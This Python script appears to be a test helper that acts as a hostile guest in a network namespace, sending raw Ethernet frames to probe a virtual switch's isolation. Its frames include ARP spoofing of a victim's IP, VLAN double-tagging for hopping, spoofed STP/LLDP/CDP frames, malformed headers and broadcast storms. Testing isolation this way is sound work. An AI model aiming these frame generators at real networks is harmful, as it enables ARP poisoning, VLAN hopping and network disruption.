"""A hostile guest: `attack.py KIND COUNT SEED OWN_MAC VICTIM_MAC VICTIM_IP` sends from eth0 of its namespace and prints how many frames went out.

Each frame with a payload has `<KIND>` in it, to be found in captures. The same seed makes the same frames.
"""

import random
import socket
import struct
import sys
import time

kind, count, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
own, victim = (bytes.fromhex(mac.replace(":", "")) for mac in sys.argv[4:6])
victim_ip = socket.inet_aton(sys.argv[6])
chance = random.Random(seed)
ALL = b"\xff" * 6
MARK = f"<{kind}>".encode()
Q, AD = 0x8100, 0x88A8
# Frames between two pauses: fewer than a veth's queue per processor holds.
BURST = 64


def frame(destination, source, protocol, payload=MARK):
    return (destination + source + struct.pack("!H", protocol) + payload).ljust(60, b"\0")


def tagged(destination, tags, protocol=0x88B5):
    """With these tags, (kind, VLAN) from the outermost inwards."""
    inner = b"".join(struct.pack("!HH", tpid, vlan) for tpid, vlan in tags)
    return (destination + own + inner + struct.pack("!H", protocol) + MARK).ljust(64, b"\0")


def address():
    return bytes([chance.randrange(0, 256) & 0xFE | 2]) + chance.randbytes(5)


def arp(operation, source_mac, source_ip, target_ip, protocol=0x0806, target=bytes(6)):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + source_mac + source_ip + target + target_ip + MARK


def forged(_):
    source = chance.choice([address(), victim])
    body = arp(3, victim, bytes(4), bytes(4), target=victim)
    return chance.choice([frame(ALL, source, 0x88B5), frame(victim, address(), 0x88B5), frame(ALL, victim, 0x8035, body)])


def spoofed(_):
    lldp = bytes.fromhex("0207") + MARK[:1] + b"\4" + own
    return chance.choice(
        [
            frame(bytes.fromhex("0180c200000e"), own, 0x88CC, lldp + MARK),
            frame(bytes.fromhex("01000ccccccc"), own, 60, bytes.fromhex("aaaa0300000c2000") + MARK),
            frame(bytes.fromhex("0180c2000000"), own, 38, bytes.fromhex("424203") + MARK),
            frame(bytes.fromhex("0180c2000002"), own, 0x8809),
            frame(ALL, own, 0x8922),
            frame(victim, own, 0x8922),
        ]
    )


# Lengths at which headers are cut off, and the protocols that have them.
def malformed(at):
    if at % 3 == 0:
        return frame(ALL, bytes([1]) + chance.randbytes(5), 0x0800)
    protocol = chance.choice([0x0800, 0x0806, 0x86DD, chance.randrange(0, 0x10000)])
    if protocol in (Q, AD):
        protocol = 0x0800
    destination = chance.choice([ALL, victim, chance.randbytes(6)])
    size = chance.choice([0, 1, 19, 20, 39, 40, chance.randrange(0, 87), chance.randrange(87, 1400)])
    first = {0x0800: b"\x45", 0x86DD: b"\x60"}.get(protocol, b"") if chance.random() < 0.5 else b""
    return destination + own + struct.pack("!H", protocol) + (first + chance.randbytes(size))[:size]


# Truncated tags: the kernel itself may drop such a frame.
def cut_tags(_):
    tag = struct.pack("!H", chance.choice([Q, AD])) + chance.randbytes(chance.randrange(0, 5))
    return chance.choice([ALL, victim]) + own + tag


KINDS = {
    "forged": forged,
    "spoofed": spoofed,
    "malformed": malformed,
    "cut": cut_tags,
    "garbage": lambda _: chance.randbytes(chance.randrange(14, 101)),
    "storm": lambda at: [
        frame(ALL, own, 0x0806, arp(1, own, b"\x0a\1\0\1", b"\x0a\1\0" + bytes([at % 256]))),
        frame(ALL, own, 0x88B5),
        frame(bytes.fromhex("333300000001"), own, 0x86DD),
    ][at % 3],
    "large": lambda _: frame(victim, own, 0x88B5, MARK * 250),
    "claim": lambda _: frame(ALL, own, 0x0806, arp(2, own, victim_ip, victim_ip)),
    "q20": lambda _: tagged(ALL, [(Q, 20)]),
    "ad20": lambda _: tagged(ALL, [(AD, 20)]),
    "q30q20": lambda _: tagged(ALL, [(Q, 30), (Q, 20)]),
    "q20q30": lambda _: tagged(ALL, [(Q, 20), (Q, 30)]),
    "ad30q20": lambda _: tagged(ALL, [(AD, 30), (Q, 20)]),
    "q0q20": lambda _: tagged(ALL, [(Q, 0), (Q, 20)]),
    "q0ad20": lambda _: tagged(ALL, [(Q, 0), (AD, 20)]),
    "tovictim": lambda _: tagged(victim, [(Q, 20), (Q, 30)]),
    "q30": lambda _: tagged(ALL, [(Q, 30)]),
    "q0": lambda _: tagged(ALL, [(Q, 0)]),
    "plain": lambda _: frame(ALL, own, 0x88B5),
}

socket_ = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
socket_.bind(("eth0", 0))
sent = 0
for at in range(count):
    sent += socket_.send(KINDS[kind](at)) > 0
    if kind != "storm" and at % BURST == BURST - 1:
        time.sleep(0.002)
print(sent)
